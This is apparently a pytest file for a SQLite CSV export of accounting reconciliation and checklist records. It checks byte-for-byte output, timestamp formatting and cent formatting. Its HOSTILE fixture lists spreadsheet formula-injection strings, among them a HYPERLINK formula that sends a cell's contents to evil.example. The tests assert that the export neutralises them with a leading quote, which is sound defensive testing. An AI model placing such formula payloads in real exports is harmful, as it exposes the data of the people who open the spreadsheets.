"""The CSV export on SQLite (columns converted a batch at a time) writes the text of the plain flattened records."""

import csv
import io
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select, update

from floqast.analytics import csv_sqlite
from floqast.analytics.filters import Filters
from floqast.analytics.generate import Profile, generate
from floqast.analytics.models import ChecklistItem, Entity, Reconciliation
from floqast.analytics.money import money_text
from floqast.analytics.records import DATASETS
from floqast.extensions import db
from floqast.keys.models import ANALYTICS_SERVICES, Service

BOOKS = Profile(entities=(("North", "USD"), ("South", "EUR")), accounts=6, months=2, through=(2025, 3), seed=7,
                people=("Ann", "Ben", "Cy"))
KOLKATA = ZoneInfo("Asia/Kolkata")
# Text a spreadsheet would run as a formula, at its start or after a ; or a line break where a spreadsheet that
# separates cells with ; starts a new one, and text that only looks like it might.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-5", "@x", "\tx", "+1", "\r=1", "'=quoted",
           "'", "plain", "", "ok;=1+1", 'a;"=2', "line\n@x", "a\r@x", "a\r\n-1;b", "a;;'"]


@pytest.fixture
def odd_books(team):
    """Generated books, then rows with what the generator never makes: hostile text, negative and tiny money,
    NULLs, moments with microseconds or from another zone, empty and hostile tags."""
    generate(team, BOOKS)
    reconciliations = db.session.scalars(select(Reconciliation.id).order_by(Reconciliation.id)).all()
    checklist_items = db.session.scalars(select(ChecklistItem.id).order_by(ChecklistItem.id)).all()
    amounts = [Decimal("-1234.50"), Decimal("-0.05"), Decimal(0), Decimal("9999999999999999.99"), Decimal("0.10")]
    for index, text in enumerate(HOSTILE):
        signed_at = datetime(2025, 3, 31, 23, 45, 6, 123456 * (index % 2), tzinfo=KOLKATA)
        db.session.execute(update(Reconciliation).where(Reconciliation.id == reconciliations[index]).values(
            account_name=text, account_number=text[:50], auto_rec_type=None if index % 3 else text,
            preparer_signed_by=text, preparer_signed_at=signed_at, reviewer_signed_by=None,
            reviewer_signed_at=None, reviewer_assigned_to=None if index % 2 else text,
            gl_balance=amounts[index % len(amounts)], reconciled_balance=amounts[(index + 1) % len(amounts)],
            reconciling_items=Decimal("-0.01") * index, updated_at=signed_at))
        db.session.execute(update(ChecklistItem).where(ChecklistItem.id == checklist_items[index]).values(
            description=text, frequency=text[:20], tags=[] if index % 2 else [text, "ok", text],
            reviewer_signed_by=text, reviewer_signed_at=signed_at, preparer_signed_at=None, updated_at=signed_at))
    db.session.execute(update(Entity).where(Entity.name == "North").values(name="@North"))
    db.session.commit()


@pytest.fixture
def sqlite(app):
    if db.engine.dialect.name != "sqlite":
        pytest.skip("SQLite's export: on PostgreSQL the database writes every cell (test_csv_copy)")


csv_sqlite_lines = csv_sqlite.lines


def sqlite_csv(dataset, team) -> str:
    """The SQLite export's records as CSV text."""
    statement = csv_sqlite.query(dataset, team.id, Filters(), team.today())
    return "".join(csv_sqlite.written(db.engine, statement, dataset))


@pytest.mark.parametrize("batch_rows", [1000, 4])  # hostile text in every batch, and in some batches only
@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
def test_the_sqlite_csv_is_the_plain_flattened_records_written_by_csv_writer(sqlite, team, odd_books, service,
                                                                             batch_rows, monkeypatch):
    monkeypatch.setattr(csv_sqlite.csv_copy, "RECORDS_PER_CHUNK", batch_rows)
    joined = []
    monkeypatch.setattr(csv_sqlite, "lines", lambda *args: joined.append(csv_sqlite_lines(*args)) or joined[-1])
    dataset = DATASETS[service]
    written = sqlite_csv(dataset, team)
    with db.engine.connect() as connection:
        plain = [dataset.flat_record(row) for row in connection.execute(dataset.query(team.id, Filters(),
                                                                                      team.today()))]
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(row.values() for row in plain)

    assert written == buffer.getvalue()  # byte for byte, batches joined by csv_sqlite.lines or written by csv.writer
    assert bool(joined) == (batch_rows == 4)  # small batches: the ones after the hostile rows need no quotes
    rows = list(csv.reader(io.StringIO(written, newline="")))
    assert len(rows) == len(plain) > len(HOSTILE)
    cells = {value for row in rows for value in row}
    assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'-5", "'@x", "'\tx", "''=quoted", "''",
            "'@North", ""} <= cells
    assert {"ok;'=1+1", "a;'\"=2", "line\n'@x", "a\r'@x", "a\r\n'-1;b", "a;;''"} <= cells
    assert ("-1234.50" in cells and "-0.05" in cells) if service is Service.RECONCILIATIONS else ("'@x;ok;'@x" in cells)
    assert "2025-03-31T18:15:06Z" in cells and not any(cell.endswith(".123456Z") for cell in cells)  # whole seconds


@pytest.mark.parametrize("cents", [0, 5, -5, 99, -100, 123450, -123450, 10**15 - 1, -(10**15 - 1), 10**15, -(10**15),
                                   999_999_999_999_999_999, -999_999_999_999_999_999, 4_503_599_627_370_497])
def test_cents_are_written_as_the_api_writes_the_amount(cents):
    assert csv_sqlite.cents_text(cents) == money_text(Decimal(cents).scaleb(-2))
